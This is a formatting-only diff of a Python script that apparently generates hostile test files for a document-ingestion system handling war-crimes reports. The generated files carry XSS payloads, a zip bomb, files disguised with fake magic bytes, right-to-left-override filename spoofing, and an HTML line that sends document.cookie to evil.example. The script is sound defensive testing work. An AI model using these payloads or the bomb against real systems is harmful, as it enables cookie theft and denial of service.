@@ -26,9 +26,13 @@ from pathlib import Path
 
 MAX_BYTES = 20 * 1024 * 1024  # casefiles.ingestion.decode.MAX_BYTES (no Django import)
 SEED = 20261123
-XSS = ('<script>alert(1)</script>', '"><img src=x onerror=alert(1)>',
-       '<a href="javascript:alert(1)">click</a>', "<svg onload=alert(1)>",
-       "<iframe src=javascript:alert(1)></iframe>")
+XSS = (
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    '<a href="javascript:alert(1)">click</a>',
+    "<svg onload=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+)
 RLO = "\u202e"
 ARTICLE = (
     "{title}\n\n{dateline}\n\nBy {byline}\n\n"
@@ -44,8 +48,10 @@ Document = tuple[str, bytes]
 def _zip_bomb() -> bytes:
     """256 MiB of zeros deflated into one entry: about 250 KiB on disk."""
     out = io.BytesIO()
-    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive, \
-            archive.open("report.txt", "w", force_zip64=True) as entry:
+    with (
+        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
+        archive.open("report.txt", "w", force_zip64=True) as entry,
+    ):
         chunk = bytes(1024 * 1024)
         for _ in range(256):
             entry.write(chunk)
@@ -67,8 +73,16 @@ def binaries(rng: random.Random) -> Iterator[Document]:
 
 def bombs(rng: random.Random) -> Iterator[Document]:
     bomb = _zip_bomb()
-    names = ("bomb.zip", "bomb.txt", "bomb.html", "bomb.md", "bomb", "bomb.docx",
-             "bomb.htm", "report.pdf.zip")
+    names = (
+        "bomb.zip",
+        "bomb.txt",
+        "bomb.html",
+        "bomb.md",
+        "bomb",
+        "bomb.docx",
+        "bomb.htm",
+        "report.pdf.zip",
+    )
     for n, name in enumerate(names):
         yield f"bomb_{n:02d}_{name}", _with_comment(bomb, f"copy {n}".encode())
     zeros = io.BytesIO()
@@ -80,15 +94,22 @@ def bombs(rng: random.Random) -> Iterator[Document]:
 
 
 def disguised(rng: random.Random) -> Iterator[Document]:
-    heads = (b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0", b"%PDF-1.7\n", b"GIF89a",
-             b"\x7fELF\x02\x01\x01", b"MZ\x90\x00", b"Rar!\x1a\x07\x00")
+    heads = (
+        b"\x89PNG\r\n\x1a\n",
+        b"\xff\xd8\xff\xe0",
+        b"%PDF-1.7\n",
+        b"GIF89a",
+        b"\x7fELF\x02\x01\x01",
+        b"MZ\x90\x00",
+        b"Rar!\x1a\x07\x00",
+    )
     for n, head in enumerate(heads):
         yield f"disguised_{n:02d}.txt", head + rng.randbytes(2048)
 
 
 def oversized(rng: random.Random) -> Iterator[Document]:
     words = b"witness statement shelling residential block "
-    line = (words * (MAX_BYTES // len(words) + 2))
+    line = words * (MAX_BYTES // len(words) + 2)
     for label, size in (("under", MAX_BYTES - 1), ("at", MAX_BYTES), ("over", MAX_BYTES + 1)):
         yield f"oneline_{label}_20mb.txt", line[:size]
 
@@ -96,31 +117,39 @@ def oversized(rng: random.Random) -> Iterator[Document]:
 def html_payloads(rng: random.Random) -> Iterator[Document]:
     for n in range(30):
         payload = XSS[n % len(XSS)]
-        body = (f"<!doctype html><html><head><title>Report {n} {payload}</title>"
-                f"<meta name=\"author\" content='{payload}'>"
-                f"<script>document.location='https://evil.example/?c='+document.cookie</script>"
-                f"</head><body onload=alert({n})><h1>Shelling {payload}</h1>"
-                f"<p>Witnesses describe the shelling of a hospital in Mariupol in March 2022."
-                f" {payload}</p><img src=x onerror=alert({n})>"
-                f"<a href=\"javascript:alert({n})\">more</a></body></html>")
+        body = (
+            f"<!doctype html><html><head><title>Report {n} {payload}</title>"
+            f"<meta name=\"author\" content='{payload}'>"
+            f"<script>document.location='https://evil.example/?c='+document.cookie</script>"
+            f"</head><body onload=alert({n})><h1>Shelling {payload}</h1>"
+            f"<p>Witnesses describe the shelling of a hospital in Mariupol in March 2022."
+            f" {payload}</p><img src=x onerror=alert({n})>"
+            f'<a href="javascript:alert({n})">more</a></body></html>'
+        )
         yield f"html_{n:02d}.html", body.encode()
 
 
 def controls(rng: random.Random) -> Iterator[Document]:
     for n in range(15):
-        noise = "".join(chr(rng.choice([*range(1, 9), 11, 12, *range(14, 32), 127,
-                                         *range(0x80, 0xA0)])) for _ in range(40 * (n + 1)))
-        text = (f"Field report {n}\n\n\x1b[31mRED\x1b[0m \x1b]0;title\x07 {noise} "
-                "The team visited the market.\n")
+        noise = "".join(
+            chr(rng.choice([*range(1, 9), 11, 12, *range(14, 32), 127, *range(0x80, 0xA0)]))
+            for _ in range(40 * (n + 1))
+        )
+        text = (
+            f"Field report {n}\n\n\x1b[31mRED\x1b[0m \x1b]0;title\x07 {noise} "
+            "The team visited the market.\n"
+        )
         yield f"controls_{n:02d}.txt", text.encode("utf-8")
 
 
 def mixed_encodings(rng: random.Random) -> Iterator[Document]:
     for n in range(15):
-        parts = ["Звіт про обстріл Ізюма.\n".encode(),
-                 "Обстрел больницы в Мариуполе.\n".encode("cp1251"),
-                 "Déclaration du témoin à Kramatorsk.\n".encode("latin-1"),
-                 "Свідчення з Бучі.\n".encode("koi8_u")]
+        parts = [
+            "Звіт про обстріл Ізюма.\n".encode(),
+            "Обстрел больницы в Мариуполе.\n".encode("cp1251"),
+            "Déclaration du témoin à Kramatorsk.\n".encode("latin-1"),
+            "Свідчення з Бучі.\n".encode("koi8_u"),
+        ]
         rng.shuffle(parts)
         yield f"mixed_{n:02d}.txt", b"".join(parts) * (n + 1)
 
@@ -128,10 +157,17 @@ def mixed_encodings(rng: random.Random) -> Iterator[Document]:
 def rtl_titles(rng: random.Random) -> Iterator[Document]:
     for n in range(15):
         title = f"Report {n} {RLO}txt.exe{RLO} about Bucha {RLO}{XSS[n % len(XSS)]}"
-        yield (f"rtl_{n:02d}_{RLO}gpj.txt",
-               ARTICLE.format(title=title, dateline="Tuesday, March 01, 2022",
-                              byline=f"{RLO}Anna{RLO}", outlet=f"The {RLO}Herald",
-                              payload=RLO * 3, n=n).encode())
+        yield (
+            f"rtl_{n:02d}_{RLO}gpj.txt",
+            ARTICLE.format(
+                title=title,
+                dateline="Tuesday, March 01, 2022",
+                byline=f"{RLO}Anna{RLO}",
+                outlet=f"The {RLO}Herald",
+                payload=RLO * 3,
+                n=n,
+            ).encode(),
+        )
 
 
 def nul_bytes(rng: random.Random) -> Iterator[Document]:
@@ -143,8 +179,10 @@ def nul_bytes(rng: random.Random) -> Iterator[Document]:
 def long_words(rng: random.Random) -> Iterator[Document]:
     for n in range(10):
         word = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(10_000 * (n + 1)))
-        yield (f"longword_{n:02d}.txt",
-               f"Report on Bucha\n\nhttps://example.org/{word}\n\n{word} {word}\n".encode())
+        yield (
+            f"longword_{n:02d}.txt",
+            f"Report on Bucha\n\nhttps://example.org/{word}\n\n{word} {word}\n".encode(),
+        )
 
 
 def nested_html(rng: random.Random) -> Iterator[Document]:
@@ -157,8 +195,10 @@ def nested_html(rng: random.Random) -> Iterator[Document]:
 
 def truncated_html(rng: random.Random) -> Iterator[Document]:
     for n in range(10):
-        page = (f"<html><head><title>Cut {n}</title></head><body><p>Attack on a kindergarten"
-                f" in Kramatorsk <a href=\"javascript:alert({n})\" ")
+        page = (
+            f"<html><head><title>Cut {n}</title></head><body><p>Attack on a kindergarten"
+            f' in Kramatorsk <a href="javascript:alert({n})" '
+        )
         yield f"truncated_{n:02d}.html", page[: len(page) - n].encode()
 
 
@@ -178,25 +218,47 @@ def blank(rng: random.Random) -> Iterator[Document]:
 def markdown(rng: random.Random) -> Iterator[Document]:
     for n in range(10):
         payload = XSS[n % len(XSS)]
-        text = (f"# Report {n} {payload}\n\n[click](javascript:alert({n})) "
-                f"![x](x \"onerror=alert(1)\")\n\n> Troops looted homes in Bucha in March 2022. "
-                f"{payload}\n\n<script>alert({n})</script>\n")
+        text = (
+            f"# Report {n} {payload}\n\n[click](javascript:alert({n})) "
+            f'![x](x "onerror=alert(1)")\n\n> Troops looted homes in Bucha in March 2022. '
+            f"{payload}\n\n<script>alert({n})</script>\n"
+        )
         yield f"markdown_{n:02d}.md", text.encode()
 
 
 def articles(rng: random.Random) -> Iterator[Document]:
     for n in range(20):
         payload = XSS[n % len(XSS)]
-        name = (f'article_{n:02d}_{payload}.txt' if n % 4 == 0 else f"article_{n:02d}.txt")
-        yield name.replace("/", "_"), ARTICLE.format(
-            title=f"Executions near Bucha {payload}",
-            dateline=f"05:16 PM Feb 23, 2023 | {payload} |", byline=payload,
-            outlet=f"The Daily {payload}", payload=payload, n=n).encode()
+        name = f"article_{n:02d}_{payload}.txt" if n % 4 == 0 else f"article_{n:02d}.txt"
+        yield (
+            name.replace("/", "_"),
+            ARTICLE.format(
+                title=f"Executions near Bucha {payload}",
+                dateline=f"05:16 PM Feb 23, 2023 | {payload} |",
+                byline=payload,
+                outlet=f"The Daily {payload}",
+                payload=payload,
+                n=n,
+            ).encode(),
+        )
 
 
 GENERATORS: tuple[Callable[[random.Random], Iterator[Document]], ...] = (
-    binaries, bombs, disguised, html_payloads, controls, mixed_encodings, rtl_titles,
-    nul_bytes, long_words, nested_html, truncated_html, utf16, blank, markdown, articles,
+    binaries,
+    bombs,
+    disguised,
+    html_payloads,
+    controls,
+    mixed_encodings,
+    rtl_titles,
+    nul_bytes,
+    long_words,
+    nested_html,
+    truncated_html,
+    utf16,
+    blank,
+    markdown,
+    articles,
 )
 
 
@@ -222,8 +284,9 @@ def write(folder: Path, *, big: bool = True) -> list[Path]:
 def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     parser.add_argument("folder", type=Path)
-    parser.add_argument("--no-big", action="store_true",
-                        help="leave out the three 20 MiB single-line files")
+    parser.add_argument(
+        "--no-big", action="store_true", help="leave out the three 20 MiB single-line files"
+    )
     args = parser.parse_args()
     paths = write(args.folder, big=not args.no_big)
     print(f"{len(paths)} documents in {args.folder}")
